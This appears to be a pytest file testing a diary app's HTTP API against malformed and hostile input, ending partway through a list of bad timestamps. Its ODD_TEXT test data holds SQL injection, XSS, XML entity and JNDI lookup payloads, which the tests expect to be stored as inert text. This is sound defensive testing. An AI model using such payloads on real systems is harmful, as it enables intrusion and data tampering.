"""Hostile input through the HTTP API, on every test backend.

Every bad input gets a 4xx RFC 9457 problem, never a 500, and changes nothing stored: the
patient's export and changes feed read the same before and after. Every legitimate but odd
input is stored and comes back verbatim: in the write's answer, when read back, in the
list, in the changes feed and in the export; in the CSV behind the formula guard; as text,
never markup, in the chart SVG.

U+0000 is refused with 422 naming the field, on both databases alike: PostgreSQL text
cannot hold it (SQLite can), and a diary has no use for it (``NoNulCharacters`` in
app/core/middleware.py). Lone surrogates are refused by the schemas, per field.
"""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
import json
import math
import uuid
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator, Mapping
from typing import Any
from zoneinfo import ZoneInfo

import httpx2
import pytest
from fastapi.testclient import TestClient

from app.accounts.models import User
from app.core.database import Database, table_of
from app.main import create_app
from tests.conftest import (
    PASSWORD,
    Account,
    assert_problem,
    count_rows,
    header_bytes,
    make_settings,
)

ME = "/v1/patients/me"
#: Later than tomorrow in any zone (UTC−12 to UTC+14).
_DAY_AFTER_TOMORROW = str(dt.date.today() + dt.timedelta(days=3))
JSON = "application/json"
MERGE_PATCH = "application/merge-patch+json"
ENTRY: dict[str, Any] = {"recorded_at": "2026-01-20T08:30:00+01:00", "pain": 4}
COURSE: dict[str, Any] = {"name": "Acupuncture for low back pain", "start_date": "2026-01-06"}
SESSION: dict[str, Any] = {"occurred_at": "2026-01-20T10:00:00+01:00"}
BASE = {"entries": ENTRY, "courses": COURSE, "sessions": SESSION}
USERS = table_of(User)
SVG = "http://www.w3.org/2000/svg"
NUL = "must not contain the NUL character (U+0000)"


class Records:
    """One patient's entry, course and session, written and read through the HTTP API."""

    def __init__(self, client: TestClient, patient: Account) -> None:
        self.client = client
        self.patient = patient
        self.ids = {
            "entries": self.create("entries", ENTRY),
            "courses": self.create("courses", COURSE),
        }
        self.ids["sessions"] = self.create("sessions", SESSION | {"course_id": self.course})

    @property
    def entry(self) -> str:
        return self.ids["entries"]

    @property
    def course(self) -> str:
        return self.ids["courses"]

    def create(self, collection: str, body: dict[str, Any]) -> str:
        record_id = str(uuid.uuid4())
        response = self.put(collection, record_id, body)
        assert response.status_code == 201, response.text
        return record_id

    def put(self, collection: str, record_id: str, body: dict[str, Any]) -> httpx2.Response:
        return self.client.put(
            f"{ME}/{collection}/{record_id}", json=body, headers=self.patient.headers
        )

    def send(
        self,
        method: str,
        path: str,
        content: bytes | Iterator[bytes],
        content_type: str | None = JSON,
        headers: Mapping[str, str | bytes] | None = None,
    ) -> httpx2.Response:
        sent = self.patient.headers | ({"Content-Type": content_type} if content_type else {})
        return self.client.request(
            method, path, content=content, headers=header_bytes({**sent, **(headers or {})})
        )

    def get(self, path: str, **params: Any) -> httpx2.Response:
        return self.client.get(path, params=params, headers=self.patient.headers)

    def writes(self, collection: str) -> list[tuple[str, str, str]]:
        """``(method, path, content type)`` of every write of a collection's records: create
        at a new id, replace the stored one, create with a server id, merge-patch."""
        base = f"{ME}/{collection}"
        stored = f"{base}/{self.ids[collection]}"
        return [
            ("PUT", f"{base}/{uuid.uuid4()}", JSON),
            ("PUT", stored, JSON),
            ("POST", base, JSON),
            ("PATCH", stored, MERGE_PATCH),
        ]

    def every_write(self) -> list[tuple[str, str, str]]:
        """Every write that takes a JSON object (share codes take none too, so they are not
        here: an empty body is a valid request for one)."""
        return [
            *self.writes("entries"),
            ("POST", f"{ME}/entries/batch", JSON),
            *self.writes("courses"),
            *self.writes("sessions"),
            ("PATCH", "/v1/me", MERGE_PATCH),
        ]

    def state(self) -> dict[str, Any]:
        """Everything stored about the patient: the export (less its own timestamp) and the
        changes feed from the start."""
        export = self.get("/v1/me/export")
        feed = self.get(f"{ME}/changes", limit=500)
        assert export.status_code == feed.status_code == 200, (export.text, feed.text)
        exported = export.json()
        del exported["exported_at"]
        return {"export": exported, "changes": feed.json()}

    def everywhere(self, collection: str, record_id: str) -> list[dict[str, Any]]:
        """The record as GET, the list, the changes feed and the export show it."""
        one = self.get(f"{ME}/{collection}/{record_id}")
        listed = self.get(f"{ME}/{collection}", limit=500)
        assert one.status_code == listed.status_code == 200, (one.text, listed.text)
        state = self.state()
        in_list = [r for r in listed.json()["items"] if r["id"] == record_id]
        in_feed = [c["data"] for c in state["changes"]["changes"] if c["id"] == record_id]
        exported = [r for r in state["export"][collection] if r["id"] == record_id]
        assert len(in_list) == len(in_feed) == len(exported) == 1
        return [one.json(), in_list[0], in_feed[0], exported[0]]


@pytest.fixture
def records(client: TestClient, patient: Account) -> Records:
    return Records(client, patient)


def locs(problem: dict[str, Any]) -> list[str]:
    return [".".join(str(p) for p in e["loc"]) for e in problem["errors"]]


def with_tokens(base: dict[str, Any], **tokens: str) -> bytes:
    """``base`` as JSON plus fields given as raw JSON text (``1e309``, ``NaN``, 400 digits)."""
    members = [json.dumps(base)[1:-1], *(f'"{k}": {v}' for k, v in tokens.items())]
    return ("{" + ", ".join(m for m in members if m) + "}").encode()


def nest(dotted: str, value: Any) -> dict[str, Any]:
    """The body fields that put ``value`` at ``dotted``: ``tags.0`` is ``{"tags": [value]}``,
    ``medications.0.unit`` a medication with that unit."""
    head, *rest = dotted.split(".")
    if not rest:
        return {head: value}
    if head == "tags":
        return {"tags": [value]}
    return {head: [{"name": "Ibuprofen", "kind": "as_needed"} | {rest[1]: value}]}


def read(record: dict[str, Any], dotted: str) -> Any:
    value: Any = record
    for part in dotted.split("."):
        value = value[int(part)] if part.isdigit() else value[part]
    return value


# --- Malformed documents ----------------------------------------------------------------


MALFORMED = [
    pytest.param(b'{"notes": ' + b"[" * 10_000 + b"]" * 10_000 + b"}", "nested too deeply",
                 id="field-nested-10k-arrays"),
    pytest.param(b'{"notes": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "nested too deeply",
                 id="field-nested-100k-arrays"),
    pytest.param(b"[" * 100_000 + b"]" * 100_000, "nested too deeply", id="body-nested-100k"),
    pytest.param(b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "nested too deeply",
                 id="body-nested-100k-objects"),
    pytest.param(b"[" * 100_000, "nested too deeply", id="body-100k-unclosed"),
    pytest.param(b'{"pain": 1' + b"0" * 5000 + b"}", "too many digits", id="pain-5001-digits"),
    pytest.param(b'{"sleep_hours": -' + b"9" * 5000 + b"}", "too many digits",
                 id="sleep-5000-digits"),
    pytest.param(b'{"notes": "\xff\xfe"}', "UTF-8", id="invalid-utf8-ff-fe"),
    pytest.param(b'{"notes": "\xc0\xaf"}', "UTF-8", id="overlong-utf8"),
    # Python's JSON reader lets a UTF-8-encoded surrogate through; the schemas refuse it.
    pytest.param(b'{"notes": "\xed\xa0\x80"}', None, id="utf8-encoded-surrogate"),
    pytest.param(b'{"notes": "\xe2\x82"}', "UTF-8", id="truncated-utf8"),
    pytest.param(b'{"notes": "\xf4\x90\x80\x80"}', "UTF-8", id="utf8-beyond-10ffff"),
    pytest.param(b'{"notes": "\x80"}', "UTF-8", id="lone-continuation-byte"),
    pytest.param('{"pain": 3}'.encode("utf-16"), "UTF-8", id="utf16-with-bom"),
    pytest.param('{"pain": 3}'.encode("utf-16-le"), "UTF-8", id="utf16-without-bom"),
    pytest.param('{"pain": 3}'.encode("utf-32"), "UTF-8", id="utf32"),
    pytest.param(b'{"notes": "a\x00b"}', "UTF-8", id="raw-nul-byte"),
    pytest.param(b"", None, id="empty"),
    pytest.param(b'"entry"', None, id="bare-string"),
    pytest.param(b"[]", None, id="bare-array"),
    pytest.param(b"null", None, id="bare-null"),
    pytest.param(b"42", None, id="bare-number"),
    pytest.param(b"NaN", None, id="bare-nan"),
    pytest.param(b'{"pain": 3} trailing', None, id="trailing-garbage"),
    pytest.param(b"{'pain': 3}", None, id="single-quotes"),
    pytest.param(b'{"pain": 3,}', None, id="trailing-comma"),
    pytest.param(b'{"notes": "raw\nnewline"}', None, id="raw-control-character"),
]  # fmt: skip


@pytest.mark.parametrize(("body", "message"), MALFORMED)
def test_a_malformed_body_is_422_on_every_write_and_changes_nothing(
    records: Records, body: bytes, message: str | None
) -> None:
    before = records.state()

    for method, path, content_type in records.every_write():
        response = records.send(method, path, body, content_type)

        problem = assert_problem(response, 422)
        assert all(loc.startswith("body") for loc in locs(problem)), (method, path, problem)
        if message is not None:
            assert locs(problem) == ["body"], (method, path, problem)
            assert message in problem["errors"][0]["msg"], (method, path, problem)
    assert records.state() == before


def test_a_document_nested_as_deep_as_the_parser_allows_is_still_a_422(
    records: Records,
) -> None:
    """Below the parser's depth limit the document parses; what then reads it (schemas,
    merge patch) must not recurse into a 500 either."""
    before = records.state()
    for depth in (500, 900, 990):
        nested = b'{"a":' * depth + b"1" + b"}" * depth
        for body in (b'{"notes": ' + nested + b"}", nested):
            for method, path, content_type in records.every_write():
                assert_problem(records.send(method, path, body, content_type), 422)
    assert records.state() == before


# --- NUL --------------------------------------------------------------------------------

NUL_IN_FIELDS = [
    pytest.param("entries", {"notes": "before\x00after"}, "body.notes", id="entry-notes"),
    pytest.param("entries", {"tags": ["fine", "\x00"]}, "body.tags.1", id="entry-tag"),
    pytest.param("entries", nest("medications.0.name", "Ibu\x00"), "body.medications.0.name",
                 id="entry-medication-name"),
    pytest.param("entries", nest("medications.0.unit", "m\x00g"), "body.medications.0.unit",
                 id="entry-medication-unit"),
    pytest.param("entries", {"notes": "\\\x00"}, "body.notes", id="entry-nul-after-backslash"),
    pytest.param("entries", {"notes": "a\x00", "tags": ["\x00"]}, "body.notes,body.tags.0",
                 id="entry-two-fields"),
    pytest.param("entries", {"no\x00tes": "x"}, "body", id="entry-nul-in-a-field-name"),
    pytest.param("courses", {"name": "\x00"}, "body.name", id="course-name"),
    pytest.param("courses", {"practitioner": "Dr \x00"}, "body.practitioner",
                 id="course-practitioner"),
    pytest.param("courses", {"pattern": "qi\x00"}, "body.pattern", id="course-pattern"),
    pytest.param("courses", {"notes": "\x00"}, "body.notes", id="course-notes"),
    pytest.param("sessions", {"notes": "\x00"}, "body.notes", id="session-notes"),
    pytest.param("sessions", {"practitioner": "\x00"}, "body.practitioner",
                 id="session-practitioner"),
    pytest.param("sessions", {"points": ["LI4", "GB20\x00"]}, "body.points.1",
                 id="session-point"),
]  # fmt: skip


@pytest.mark.parametrize(("collection", "fields", "where"), NUL_IN_FIELDS)
def test_nul_in_a_record_is_422_naming_the_field_and_changes_nothing(
    records: Records, collection: str, fields: dict[str, Any], where: str
) -> None:
    before = records.state()
    full = BASE[collection] | fields

    for method, path, content_type in records.writes(collection):
        body = fields if method == "PATCH" else full
        response = records.send(method, path, json.dumps(body).encode(), content_type)

        problem = assert_problem(response, 422)
        assert locs(problem) == where.split(","), (method, path)
        assert {e["msg"] for e in problem["errors"]} == {NUL}
    assert records.state() == before


def test_nul_in_the_display_name_is_422(records: Records) -> None:
    before = records.state()

    response = records.send("PATCH", "/v1/me", b'{"display_name": "Pat\\u0000"}', MERGE_PATCH)

    assert locs(assert_problem(response, 422)) == ["body.display_name"]
    assert records.state() == before


def test_nul_in_one_batch_item_refuses_the_whole_batch(records: Records) -> None:
    """NUL is refused while the body is read, before the batch splits into items: the batch
    is refused whole, like a batch that is not valid JSON."""
    before = records.state()
    items = [
        ENTRY | {"id": str(uuid.uuid4())},
        ENTRY | {"id": str(uuid.uuid4()), "notes": "\x00"},
    ]

    response = records.send("POST", f"{ME}/entries/batch", json.dumps({"items": items}).encode())

    assert locs(assert_problem(response, 422)) == ["body.items.1.notes"]
    assert records.state() == before


def _multipart(fields: dict[str, str]) -> tuple[bytes, str]:
    parts = [
        f'--b\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'
        for k, v in fields.items()
    ]
    return ("".join(parts) + "--b--\r\n").encode(), "multipart/form-data; boundary=b"


def test_nul_in_sign_up_sign_in_and_linking_is_422_and_stores_nothing(
    client: TestClient,
    db: Database,
    portal: Callable[..., Any],
    patient: Account,
    clinician: Account,
) -> None:
    """Fields that are only looked up (a sign-in email, a refresh token, a share code) are
    refused too: on PostgreSQL the lookup itself would fail."""
    register = {"email": "nul@example.org", "password": PASSWORD, "role": "patient"}
    form = "application/x-www-form-urlencoded"
    multipart, multipart_type = _multipart(
        {"grant_type": "password", "username": patient.email, "password": "a\x00"}
    )
    cases: list[tuple[str, str, dict[str, str], bytes, str, str]] = [
        ("POST", "/v1/auth/register", {}, json.dumps(register | {"email": "n\x00@example.org"})
         .encode(), JSON, "body.email"),
        ("POST", "/v1/auth/register", {}, json.dumps(register | {"password": "p" * 10 + "\x00"})
         .encode(), JSON, "body.password"),
        ("POST", "/v1/auth/register", {}, json.dumps(register | {"display_name": "\x00"})
         .encode(), JSON, "body.display_name"),
        ("POST", "/v1/auth/token", {}, b"grant_type=password&username=a%00%40example.org"
         b"&password=x", form, "body.username"),
        ("POST", "/v1/auth/token", {}, b"grant_type=password&username="
         + patient.email.replace("@", "%40").encode() + b"&password=%00", form, "body.password"),
        ("POST", "/v1/auth/token", {}, b"grant_type=refresh_token&refresh_token=abc%00def",
         form, "body.refresh_token"),
        ("POST", "/v1/auth/token", {}, multipart, multipart_type, "body"),
        ("POST", "/v1/auth/revoke", patient.headers, b'{"refresh_token": "abc\\u0000def"}',
         JSON, "body.refresh_token"),
        ("POST", "/v1/links", clinician.headers, b'{"code": "ABCD-\\u0000-EFGH"}', JSON,
         "body.code"),
    ]  # fmt: skip
    users_before = portal(count_rows, db, USERS)

    for method, path, headers, body, content_type, where in cases:
        response = client.request(
            method, path, content=body, headers=headers | {"Content-Type": content_type}
        )

        assert locs(assert_problem(response, 422)) == [where], (path, where)
    assert portal(count_rows, db, USERS) == users_before
    links = client.get(f"{ME}/links", headers=patient.headers)
    assert links.status_code == 200 and links.json() == []


@pytest.mark.parametrize(
    ("path", "query", "where"),
    [
        pytest.param(f"{ME}/entries", "from=%00", "query.from", id="entries-from"),
        pytest.param(f"{ME}/entries", "limit=10&cursor=abc%00", "query.cursor",
                     id="entries-cursor"),
        pytest.param(f"{ME}/changes", "since=%00", "query.since", id="changes-since"),
        pytest.param(f"{ME}/summary", "to=2026-01-01%00", "query.to", id="summary-to"),
        pytest.param(f"{ME}/report", "as_of=%00", "query.as_of", id="report-as-of"),
        pytest.param(f"{ME}/report/chart.svg", "as_of=%00", "query.as_of", id="chart-as-of"),
        pytest.param(f"{ME}/entries.csv", "from=%00&to=%00", "query.from,query.to",
                     id="csv-from-and-to"),
    ],
)  # fmt: skip
def test_nul_in_a_query_string_is_422_naming_the_parameter(
    records: Records, path: str, query: str, where: str
) -> None:
    response = records.client.get(f"{path}?{query}", headers=records.patient.headers)

    problem = assert_problem(response, 422)
    assert locs(problem) == where.split(",")
    assert {e["msg"] for e in problem["errors"]} == {NUL}


# --- Lone surrogates --------------------------------------------------------------------

SURROGATES = [
    pytest.param("\\ud800", id="high-surrogate"),
    pytest.param("\\udfff", id="low-surrogate"),
    pytest.param("x\\ud83dy", id="half-an-emoji"),
    pytest.param("\\udc00\\ud800", id="reversed-pair"),
]


@pytest.mark.parametrize("escape", SURROGATES)
def test_a_lone_surrogate_is_422_naming_the_field(records: Records, escape: str) -> None:
    before = records.state()
    targets = [
        ("entries", "notes"),
        ("entries", "tags.0"),
        ("entries", "medications.0.name"),
        ("courses", "name"),
        ("sessions", "notes"),
    ]
    for collection, where in targets:
        fields = nest(where, "SURROGATE")
        text = json.dumps(BASE[collection] | fields).replace("SURROGATE", escape)
        for method, path, content_type in records.writes(collection):
            body = json.dumps(fields).replace("SURROGATE", escape) if method == "PATCH" else text
            response = records.send(method, path, body.encode(), content_type)

            assert locs(assert_problem(response, 422)) == [f"body.{where}"], (method, path)
    response = records.send("PATCH", "/v1/me", f'{{"display_name": "{escape}"}}'.encode())
    assert locs(assert_problem(response, 422)) == ["body.display_name"]
    assert records.state() == before


def test_a_lone_surrogate_fails_only_its_own_batch_item(records: Records) -> None:
    good, bad = str(uuid.uuid4()), str(uuid.uuid4())
    body = json.dumps(
        {"items": [ENTRY | {"id": good}, ENTRY | {"id": bad, "notes": "SURROGATE"}]}
    ).replace("SURROGATE", "\\ud800")

    response = records.send("POST", f"{ME}/entries/batch", body.encode())

    assert response.status_code == 200, response.text
    results = response.json()["results"]
    assert [(r["id"], r["status"]) for r in results] == [(good, "created"), (bad, "invalid")]
    assert [e["loc"] for e in results[1]["errors"]] == [["notes"]]
    assert records.get(f"{ME}/entries/{bad}").status_code == 404


# --- Odd but legitimate text ------------------------------------------------------------

ODD_TEXT = [
    pytest.param("\u202eevil.exe\u202c", id="rtl-override"),
    pytest.param("\u200fשלום\u200e hello", id="rtl-marks-hebrew"),
    pytest.param("👨\u200d👩\u200d👧\u200d👦 family", id="zwj-emoji-sequence"),
    pytest.param("a\u200bb\u200cc\u200dd\u2060e", id="zero-width-characters"),
    pytest.param("\ufeffbom first", id="byte-order-mark"),
    pytest.param("😀🔥🇩🇪", id="emoji-and-flag"),
    pytest.param("e\u0301 n\u0303 Z\u0335\u0321\u032a\u0344", id="combining-not-normalised"),
    pytest.param("𝄞 𠜎 𓀀", id="four-byte-utf8"),
    pytest.param("a\u2028b\u2029c", id="js-line-separators"),
    pytest.param("\x1b[31mred\x1b[0m\x07", id="terminal-escapes"),
    pytest.param("x\ufffe\uffffy", id="noncharacters"),
    pytest.param("'); DROP TABLE diary_entries;--", id="sql-drop-table"),
    pytest.param("' OR '1'='1", id="sql-or-true"),
    pytest.param("1; SELECT pg_sleep(5)--", id="sql-sleep"),
    pytest.param("\\'; --", id="sql-backslash-quote"),
    pytest.param("<script>alert(1)</script>", id="script-tag"),
    pytest.param("]]>", id="cdata-end"),
    pytest.param("<svg onload=alert(1)>", id="svg-onload"),
    pytest.param("<!DOCTYPE x[<!ENTITY e 'x'>]>&e;", id="xml-entity"),
    pytest.param("{{7*7}} ${jndi:ldap://x/a}", id="template-injection"),
    pytest.param("\\u0000 is text", id="escaped-backslash-u0000"),
    pytest.param("50%00 off, %2500", id="percent-00-text"),
]


@pytest.mark.parametrize("text", ODD_TEXT)
def test_odd_text_is_stored_and_returned_verbatim(records: Records, text: str) -> None:
    assert len(text) <= 40 and text == text.strip()  # fits a tag, nothing to strip
    medication = nest("medications.0.name", text)
    written = {
        "entries": ENTRY | {"notes": text, "tags": ["yoga", text]} | medication,
        "courses": COURSE | {"name": text, "practitioner": text, "pattern": text, "notes": text},
        "sessions": SESSION | {"notes": text, "practitioner": text},
    }
    fields = {
        "entries": ["notes", "tags.1", "medications.0.name"],
        "courses": ["name", "practitioner", "pattern", "notes"],
        "sessions": ["notes", "practitioner"],
    }

    for collection, body in written.items():
        record_id = str(uuid.uuid4())
        created = records.put(collection, record_id, body)
        assert created.status_code == 201, created.text
        for shown in [created.json(), *records.everywhere(collection, record_id)]:
            assert [read(shown, f) for f in fields[collection]] == [text] * len(fields[collection])
    patched = records.send("PATCH", "/v1/me", json.dumps({"display_name": text}).encode())
    assert patched.status_code == 200, patched.text
    assert patched.json()["display_name"] == text
    assert records.get("/v1/me").json()["display_name"] == text
    assert records.state()["export"]["account"]["display_name"] == text


LONGEST = [
    pytest.param("entries", "notes", 2000, id="entry-notes-2000"),
    pytest.param("entries", "tags.0", 40, id="entry-tag-40"),
    pytest.param("entries", "medications.0.name", 100, id="medication-name-100"),
    pytest.param("entries", "medications.0.unit", 20, id="medication-unit-20"),
    pytest.param("courses", "name", 200, id="course-name-200"),
    pytest.param("courses", "practitioner", 200, id="course-practitioner-200"),
    pytest.param("courses", "pattern", 200, id="course-pattern-200"),
    pytest.param("courses", "notes", 2000, id="course-notes-2000"),
    pytest.param("sessions", "practitioner", 200, id="session-practitioner-200"),
    pytest.param("sessions", "notes", 2000, id="session-notes-2000"),
    pytest.param("me", "display_name", 100, id="display-name-100"),
]
FAMILY = "👨\u200d👩\u200d👧\u200d👦"  # 7 code points, one glyph


@pytest.mark.parametrize(("collection", "where", "longest"), LONGEST)
def test_lengths_count_code_points_up_to_the_documented_maximum(
    records: Records, collection: str, where: str, longest: int
) -> None:
    """A maximum counts characters (code points), not bytes or UTF-16 units: the longest
    text of 4-byte characters is stored whole on both databases; one more is a 422."""
    fills = ["😀" * longest, ("e\u0301" * longest)[:longest], (FAMILY * longest)[:longest]]
    for text in fills:
        if collection == "me":
            response = records.send(
                "PATCH", "/v1/me", json.dumps({where: text}).encode(), MERGE_PATCH
            )
            assert response.status_code == 200, response.text
            assert records.get("/v1/me").json()[where] == text
            continue
        record_id = str(uuid.uuid4())
        created = records.put(collection, record_id, BASE[collection] | nest(where, text))
        assert created.status_code == 201, created.text
        for shown in [created.json(), *records.everywhere(collection, record_id)]:
            assert read(shown, where) == text
    before = records.state()

    over = "😀" * (longest + 1)
    if collection == "me":
        response = records.send("PATCH", "/v1/me", json.dumps({where: over}).encode())
        assert locs(assert_problem(response, 422)) == [f"body.{where}"]
    else:
        for method, path, content_type in records.writes(collection):
            fields = nest(where, over)
            body = fields if method == "PATCH" else BASE[collection] | fields
            response = records.send(method, path, json.dumps(body).encode(), content_type)
            assert locs(assert_problem(response, 422)) == [f"body.{where}"], (method, path)
    assert records.state() == before


# --- Numbers ----------------------------------------------------------------------------

BIG = "1" + "0" * 400  # 10**400 as an integer literal
BAD_NUMBERS = [
    pytest.param("entries", "pain", "1e309", "body.pain", id="pain-1e309"),
    pytest.param("entries", "pain", "-1e309", "body.pain", id="pain-minus-1e309"),
    pytest.param("entries", "pain", BIG, "body.pain", id="pain-10e400"),
    pytest.param("entries", "pain", "-" + BIG, "body.pain", id="pain-minus-10e400"),
    pytest.param("entries", "pain", "NaN", "body.pain", id="pain-nan"),
    pytest.param("entries", "pain", "Infinity", "body.pain", id="pain-infinity"),
    pytest.param("entries", "pain", "-Infinity", "body.pain", id="pain-minus-infinity"),
    pytest.param("entries", "pain", "4.5", "body.pain", id="pain-fraction"),
    pytest.param("entries", "pain", "1e-300", "body.pain", id="pain-tiny-fraction"),
    pytest.param("entries", "pain_worst", "1e309", "body.pain_worst", id="pain-worst-1e309"),
    pytest.param("entries", "stress", BIG, "body.stress", id="stress-10e400"),
    pytest.param("entries", "mood", "NaN", "body.mood", id="mood-nan"),
    pytest.param("entries", "sleep_hours", "NaN", "body.sleep_hours", id="sleep-nan"),
    pytest.param("entries", "sleep_hours", "Infinity", "body.sleep_hours", id="sleep-infinity"),
    pytest.param("entries", "sleep_hours", "-Infinity", "body.sleep_hours",
                 id="sleep-minus-infinity"),
    pytest.param("entries", "sleep_hours", "1e309", "body.sleep_hours", id="sleep-1e309"),
    pytest.param("entries", "sleep_hours", BIG, "body.sleep_hours", id="sleep-10e400"),
    pytest.param("entries", "sleep_hours", "24.000000000001", "body.sleep_hours",
                 id="sleep-just-over-24"),
    pytest.param("entries", "sleep_hours", "-1e-300", "body.sleep_hours", id="sleep-tiny-negative"),
    pytest.param("entries", "sites", '[{"region": "neck", "intensity": 1e309}]',
                 "body.sites.0.intensity", id="site-intensity-1e309"),
    pytest.param("entries", "medications", '[{"name": "x", "kind": "as_needed", "dose": NaN}]',
                 "body.medications.0.dose", id="dose-nan"),
    pytest.param("entries", "medications",
                 '[{"name": "x", "kind": "as_needed", "dose": Infinity}]',
                 "body.medications.0.dose", id="dose-infinity"),
    pytest.param("entries", "medications", f'[{{"name": "x", "kind": "as_needed", "dose": {BIG}}}]',
                 "body.medications.0.dose", id="dose-10e400"),
    pytest.param("entries", "medications", '[{"name": "x", "kind": "as_needed", "dose": 1e-400}]',
                 "body.medications.0.dose", id="dose-underflows-to-0"),
    pytest.param("entries", "medications", '[{"name": "x", "kind": "as_needed", "dose": -0.0}]',
                 "body.medications.0.dose", id="dose-minus-zero"),
    pytest.param("entries", "medications",
                 '[{"name": "x", "kind": "as_needed", "dose": 1000000000.0000001}]',
                 "body.medications.0.dose", id="dose-just-over-1e9"),
    pytest.param("courses", "planned_sessions", BIG, "body.planned_sessions",
                 id="planned-sessions-10e400"),
    pytest.param("courses", "planned_sessions", "1e309", "body.planned_sessions",
                 id="planned-sessions-1e309"),
    pytest.param("courses", "planned_sessions", "NaN", "body.planned_sessions",
                 id="planned-sessions-nan"),
    pytest.param("sessions", "duration_minutes", BIG, "body.duration_minutes",
                 id="duration-10e400"),
    pytest.param("sessions", "duration_minutes", "-0", "body.duration_minutes",
                 id="duration-minus-zero"),
    pytest.param("sessions", "pain_before", "Infinity", "body.pain_before",
                 id="pain-before-infinity"),
    pytest.param("sessions", "electro_frequency_hz", "NaN", "body.electro_frequency_hz",
                 id="electro-hz-nan"),
    pytest.param("sessions", "electro_frequency_hz", BIG, "body.electro_frequency_hz",
                 id="electro-hz-10e400"),
]  # fmt: skip


@pytest.mark.parametrize(("collection", "field", "token", "where"), BAD_NUMBERS)
def test_an_impossible_number_is_422_naming_the_field(
    records: Records, collection: str, field: str, token: str, where: str
) -> None:
    before = records.state()
    base = BASE[collection] | (
        {"modality": "electroacupuncture"} if field == "electro_frequency_hz" else {}
    )

    for method, path, content_type in records.writes(collection):
        body = with_tokens({} if method == "PATCH" else base, **{field: token})
        response = records.send(method, path, body, content_type)

        assert locs(assert_problem(response, 422)) == [where], (method, path)
    assert records.state() == before


@pytest.mark.parametrize("token", ["1e309", BIG, "NaN", "-Infinity", "0", "169"])
def test_an_impossible_share_code_lifetime_is_422(records: Records, token: str) -> None:
    before = records.state()

    response = records.send(
        "POST", f"{ME}/share-codes", f'{{"expires_in_hours": {token}}}'.encode()
    )

    assert locs(assert_problem(response, 422)) == ["body.expires_in_hours"]
    assert records.state() == before


ODD_NUMBERS = [
    pytest.param("sleep_hours", "-0.0", 0.0, id="sleep-minus-zero"),
    pytest.param("sleep_hours", "-0", 0.0, id="sleep-minus-zero-integer"),
    pytest.param("sleep_hours", "1e-400", 0.0, id="sleep-underflows-to-0"),
    pytest.param("sleep_hours", "5e-324", 5e-324, id="sleep-smallest-subnormal"),
    pytest.param("sleep_hours", "0." + "1" * 5000, 0.1111111111111111, id="sleep-5000-decimals"),
    pytest.param("sleep_hours", "23.99999999999999999", 24.0, id="sleep-rounds-to-24"),
    pytest.param("sleep_hours", "7.5E0", 7.5, id="sleep-exponent"),
    pytest.param("pain", "-0", 0, id="pain-minus-zero-integer"),
    # JSON Schema's `integer`, which the document says: a number with no fractional part.
    pytest.param("pain", "4.0", 4, id="pain-integral-float"),
    pytest.param("pain", "0.4e1", 4, id="pain-exponent"),
    pytest.param("pain", "-0.0", 0, id="pain-minus-zero-float"),
    pytest.param("pain", "1e-400", 0, id="pain-underflows-to-0"),
    pytest.param("medications", '[{"name": "x", "kind": "as_needed", "dose": 5e-324}]', 5e-324,
                 id="dose-smallest-subnormal"),
    pytest.param("medications", '[{"name": "x", "kind": "as_needed", "dose": 1e9}]', 1e9,
                 id="dose-1e9"),
]  # fmt: skip


@pytest.mark.parametrize(("field", "token", "stored"), ODD_NUMBERS)
def test_an_odd_but_possible_number_is_stored_exactly(
    records: Records, field: str, token: str, stored: float
) -> None:
    record_id = str(uuid.uuid4())

    response = records.send(
        "PUT", f"{ME}/entries/{record_id}", with_tokens(ENTRY, **{field: token})
    )

    assert response.status_code == 201, response.text
    for shown in [response.json(), *records.everywhere("entries", record_id)]:
        value = shown[field] if field != "medications" else shown[field][0]["dose"]
        assert value == stored
        assert type(value) is type(stored)
        assert math.copysign(1, value) == 1  # never -0.0, on either database


def test_an_electroacupuncture_frequency_rounding_to_the_maximum_is_stored(
    records: Records,
) -> None:
    record_id = str(uuid.uuid4())
    body = with_tokens(
        SESSION | {"modality": "electroacupuncture"}, electro_frequency_hz="200.00000000000001"
    )

    response = records.send("PUT", f"{ME}/sessions/{record_id}", body)

    assert response.status_code == 201, response.text
    for shown in [response.json(), *records.everywhere("sessions", record_id)]:
        assert shown["electro_frequency_hz"] == 200.0


# --- Time -------------------------------------------------------------------------------

BAD_TIMES = [
    pytest.param("entries", "recorded_at", "0001-01-01T00:00:00Z", id="year-1"),
    pytest.param("entries", "recorded_at", "0001-01-01T00:00:00+14:00", id="year-1-plus-14"),
    pytest.param("entries", "recorded_at", "0000-01-01T00:00:00Z", id="year-0"),
    pytest.param("entries", "recorded_at", "1899-12-31T23:59:59-12:00", id="just-before-1900"),
    pytest.param("entries", "recorded_at", "9999-12-31T23:59:59Z", id="year-9999"),
    pytest.param("entries", "recorded_at", "9999-12-31T23:59:59-12:00", id="utc-in-year-10000"),
    pytest.param("entries", "recorded_at", "2199-12-31T00:00:00Z", id="far-future"),
    pytest.param("entries", "recorded_at", "2026-01-20T08:30:00+24:00", id="offset-24h"),
    pytest.param("entries", "recorded_at", "2026-01-20T08:30:00-99:99", id="offset-99"),
    pytest.param("entries", "recorded_at", "2026-01-20T08:30:00+05:60", id="offset-minute-60"),
    pytest.param("entries", "recorded_at", "2026-01-20T08:30:00+05:30:15", id="offset-seconds"),
    pytest.param("entries", "recorded_at", "2016-12-31T23:59:60Z", id="leap-second"),
    pytest.param("entries", "recorded_at", "2026-01-20T24:00:00Z", id="hour-24"),
    pytest.param("entries", "recorded_at", "2026-01-20T08:60:00Z", id="minute-60"),
    pytest.param("entries", "recorded_at", "2025-02-29T08:00:00Z", id="feb-29-2025"),
    pytest.param("entries", "recorded_at", "1900-02-29T08:00:00Z", id="feb-29-1900"),
    pytest.param("entries", "recorded_at", "2026-13-01T08:00:00Z", id="month-13"),
    pytest.param("entries", "recorded_at", "2026-01-20T08:30:00.1234567890Z", id="10-decimals"),
    pytest.param("entries", "recorded_at", "+12026-01-20T08:30:00Z", id="five-digit-year"),
    pytest.param("entries", "recorded_at", "２０２６-01-20T08:30:00Z", id="fullwidth-digits"),
    pytest.param("entries", "recorded_at", "2026-01-20T08:30:00Z\n", id="trailing-newline"),
    pytest.param("entries", "local_date", "9999-12-31", id="local-date-9999"),
    pytest.param("entries", "local_date", "0001-01-01", id="local-date-year-1"),
